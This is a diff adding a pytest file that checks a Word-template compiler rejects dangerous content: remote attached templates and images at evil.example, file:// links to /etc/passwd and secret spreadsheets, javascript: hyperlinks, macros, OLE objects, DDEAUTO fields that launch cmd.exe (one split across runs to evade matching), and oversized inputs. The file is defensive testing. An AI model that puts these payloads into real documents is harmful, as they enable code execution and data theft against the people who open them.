@@ -1,0 +1,116 @@
+"""What a Word template must not bring along: content from elsewhere, content that acts, more than it can need."""
+
+from collections.abc import Callable, Mapping
+
+import pytest
+
+from tests.word_templates import RELATED, docx, paragraph, problems_of, run, table
+from tests.word_templates import pack_of as pack
+from ucap_reports.problems import Problem, ProblemsFound
+from ucap_reports.word.compiling import compile_word
+from ucap_reports.word.package import compressed, read_package, write_package
+
+BODY = paragraph("{{ summary.title }}")
+SPLIT_FIELD = (
+    "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
+    "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
+)
+Change = Callable[[bytes], bytes]
+
+
+def changed(changes: Mapping[str, Change], added: Mapping[str, bytes] | None = None) -> bytes:
+    """A small template of which some parts are changed, and others added."""
+    parts = dict(read_package(docx(BODY)).parts) | dict(added or {})
+    parts |= {name: change(parts[name]) for name, change in changes.items()}
+    return write_package(compressed(name, content) for name, content in parts.items())
+
+
+def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Change:
+    """One more relationship."""
+    new = f'<Relationship Id="rId99" Type="{RELATED}{kind}" Target="{target}"{mode}/></Relationships>'
+    return lambda content: content.replace(b"</Relationships>", new.encode())
+
+
+def problems_in(template: bytes) -> tuple[Problem, ...]:
+    try:
+        compile_word(pack(template))
+    except ProblemsFound as found:
+        return found.problems
+    return ()
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "code"),
+    [
+        ("attachedTemplate", "https://evil.example/evil.dotm", "content-external"),
+        ("attachedTemplate", "file:///C:/Users/me/house.dotx", "content-external"),
+        ("image", "https://evil.example/pixel.png", "content-external"),
+        ("frame", "https://evil.example/frame.htm", "content-external"),
+        ("mailMergeSource", "file:///C:/secret.xlsx", "content-external"),
+        ("oleObject", "embeddings/object.bin", "content-active"),
+        ("aFChunk", "chunk.html", "content-active"),
+        ("subDocument", "https://evil.example/sub.docx", "content-active"),
+        ("hyperlink", "javascript:alert(1)", "link-invalid"),
+        ("hyperlink", "file:///etc/passwd", "link-invalid"),
+    ],
+)
+def test_a_relationship_to_what_lies_elsewhere_or_acts_is_told(kind: str, target: str, code: str) -> None:
+    mode = "" if target.startswith(("embeddings", "chunk")) else ' TargetMode="External"'
+    (problem,) = problems_in(changed({"word/_rels/document.xml.rels": related(kind, target, mode)}))
+    assert (problem.code, problem.location.place) == (code, "document")
+    assert target in problem.message or kind in problem.message
+
+
+def test_the_template_that_settings_are_attached_to_is_told_at_the_settings() -> None:
+    rels = related("attachedTemplate", "https://evil.example/evil.dotm")
+    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    (problem,) = problems_in(changed({}, {"word/_rels/settings.xml.rels": rels(empty)}))
+    assert (problem.code, problem.location.place) == ("content-external", "settings")
+    assert problem.hint == "attach it to Normal in Word: Developer, Document Template"
+
+
+def test_links_of_the_template_itself_are_welcome() -> None:
+    rels = {"word/_rels/document.xml.rels": related("hyperlink", "https://www.example.org/?a=b")}
+    assert problems_in(changed(rels)) == ()
+
+
+def test_macros_are_told() -> None:
+    def with_macros(content: bytes) -> bytes:
+        return content.replace(b"</Types>", b'<Override PartName="/a" ContentType="x.vbaProject"/></Types>')
+
+    assert [each.code for each in problems_in(changed({"[Content_Types].xml": with_macros}))] == ["content-active"]
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        '<w:r><w:instrText> INCLUDEPICTURE "https://evil.example/a.png" </w:instrText></w:r>',
+        '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
+        SPLIT_FIELD,
+    ],
+)
+def test_a_field_that_fetches_something_is_told_where_it_stands(field: str) -> None:
+    (problem,) = problems_of(f"<w:p>{field}</w:p>" + BODY)
+    assert (problem.code, problem.location.place) == ("content-external", "body › paragraph 1")
+
+
+def test_fields_that_count_pages_are_welcome() -> None:
+    assert problems_of(paragraph("<w:r><w:instrText> PAGE </w:instrText></w:r>", "x")) == ()
+
+
+@pytest.mark.parametrize(
+    ("body", "code"),
+    [
+        ("<w:p/>" * 800_000, "template-broken"),
+        (paragraph("{{ summary.title }}") * 2_000, "tags-too-many"),
+        (paragraph("{{" * 5_000), "tags-too-many"),
+        (f"<w:p>{run('{% if 1 %}') * 2_000}</w:p>", "tags-too-many"),
+    ],
+    ids=["paragraphs", "tags", "braces", "conditions"],
+)
+def test_what_nobody_has_written_by_hand_is_not_worked_on(body: str, code: str) -> None:
+    assert [problem.code for problem in problems_of(body)] == [code]
+
+
+def test_a_long_table_is_nothing_strange() -> None:
+    assert problems_of(table(*[["{{ summary.id }}", "a", "b"]] * 300)) == ()
